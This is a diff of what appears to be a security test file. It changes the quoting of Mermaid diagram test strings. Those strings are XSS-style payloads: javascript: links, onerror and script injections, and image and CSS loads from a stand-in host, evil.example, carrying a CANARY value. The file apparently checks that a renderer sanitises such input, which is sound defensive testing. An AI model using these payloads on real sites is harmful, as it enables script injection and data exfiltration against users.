@@ -52,7 +52,7 @@ IMAGES = [
 
 DIAGRAMS = [
     'graph TD\n A[x] --> B\n click A href "javascript:hits.push(1)"',
-    'graph TD\n A[x] --> B\n click A call hits.push(1)',
+    "graph TD\n A[x] --> B\n click A call hits.push(1)",
     'graph TD\n A["<img src=x onerror=hits.push(1)>"] --> B',
     'graph TD\n A["<script>hits.push(1)</script>"] --> B',
     'graph TD\n A@{ img: "https://evil.example/j.png?d=CANARY", label: "x", w: 60, h: 60 } --> B',
@@ -62,7 +62,7 @@ DIAGRAMS = [
     '%%{init: {"flowchart": {"htmlLabels": true}, "htmlLabels": true}}%%\ngraph TD\n A["<iframe srcdoc=x>"] --> B',
     "---\nconfig:\n  securityLevel: loose\n  themeCSS: '@import url(https://evil.example/n.css);'\n---\ngraph TD\n A --> B",
     "sequenceDiagram\n participant A\n link A: Go @ javascript:hits.push(1)\n A->>B: <img src=x onerror=hits.push(1)>",
-    'graph TD\n A --> B\n style A fill:u\\72l(https://evil.example/o.png)',
+    "graph TD\n A --> B\n style A fill:u\\72l(https://evil.example/o.png)",
 ]
 
 ENDLESS = {
